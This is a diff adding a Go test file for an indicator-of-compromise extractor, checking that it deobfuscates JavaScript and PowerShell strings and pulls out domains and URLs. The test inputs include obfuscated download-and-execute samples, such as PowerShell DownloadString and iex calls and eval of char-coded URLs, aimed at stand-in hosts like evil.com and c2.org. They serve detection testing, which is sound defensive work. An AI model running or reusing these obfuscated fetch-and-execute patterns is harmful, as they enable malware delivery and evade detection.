@@ -0,0 +1,53 @@
+package ioc
+
+import (
+	"reflect"
+	"sort"
+	"testing"
+)
+
+func TestDeobfuscate(t *testing.T) {
+	tests := []struct {
+		script string
+		want   string
+	}{
+		{`var u = 'ht'+'tp:/' + "/evil" + ".com/a"; x.open("GET", u)`, `var u = "http://evil.com/a"; x.open("GET", u)`},
+		{`eval(String.fromCharCode(104,116,116,112,58,47,47,0x65,118,105,108,46,99,111,109))`, `eval("http://evil.com")`},
+		{`var s = ['ht', 'tp://', 'p.io'].join(''); var t = "\x68\x74\x74\x70\u003a//q.io"`, `var s = "http://p.io"; var t = "http://q.io"`},
+		{"$u = [char]104 + [char](116) + 'tp://bad.net'; (Ne`w-Obj`ect Net.WebClient).DownloadString($u)", `$u = "http://bad.net"; (New-Object Net.WebClient).DownloadString($u)`},
+		{"$a = ([char[]](104,116,116,112,58,47,47,99,50,46,111,114,103) -join ''); iex $a", `$a = "http://c2.org"; iex $a`},
+		{"$b = -join ('ht','tp://','x.org'); $c = ('a','b') -JOIN '.'", `$b = "http://x.org"; $c = "a.b"`},
+		{`document.write("it's" + ' "ok"')`, `document.write("it's \"ok\"")`},
+		// Calls and paths are left alone
+		{`f('x'); $p = 'C:\Users\x'`, `f('x'); $p = 'C:\Users\x'`},
+	}
+	for _, test := range tests {
+		if got := Deobfuscate(test.script); got != test.want {
+			t.Errorf("%s: got %s, wanted %s", test.script, got, test.want)
+		}
+	}
+}
+
+func TestGetIOCsDeobfuscated(t *testing.T) {
+	script := `var a = "hxxp://lure[.]com"; var b = 'ht' + 'tp://' + 'evil' + '.com/' + 'a.js'; fetch("https://cdn.example.org/x")`
+	got := GetIOCsDeobfuscated(script, false)
+	sort.SliceStable(got, func(i, j int) bool { return got[i].Type < got[j].Type })
+	want := []*FoundIOC{
+		{IOC: "lure[.]com", Type: Domain},
+		{IOC: "evil.com", Type: Domain, Metadata: map[string]string{"deobfuscated": "true"}},
+		{IOC: "hxxp://lure[.]com", Type: URL},
+		{IOC: "http://evil.com/a.js", Type: URL, Metadata: map[string]string{"deobfuscated": "true"}},
+	}
+	if !reflect.DeepEqual(got, want) {
+		t.Errorf("got %v, wanted %v", got, want)
+		for _, ioc := range got {
+			t.Log(ioc.IOC, ioc.Type, ioc.Metadata)
+		}
+	}
+
+	// Encoded strings that are split up are decoded after deobfuscating
+	iocs := GetIOCsFromText(`$u = 'aHR0cDovL2V2aWwu' + 'Y29tL3BheWxvYWQ='`, ContentOptions{Decode: true, Deobfuscate: true})
+	if len(iocs) != 2 || iocs[0].Metadata["encoding"] != "base64" {
+		t.Errorf("Should have decoded the deobfuscated string, got %v", iocs)
+	}
+}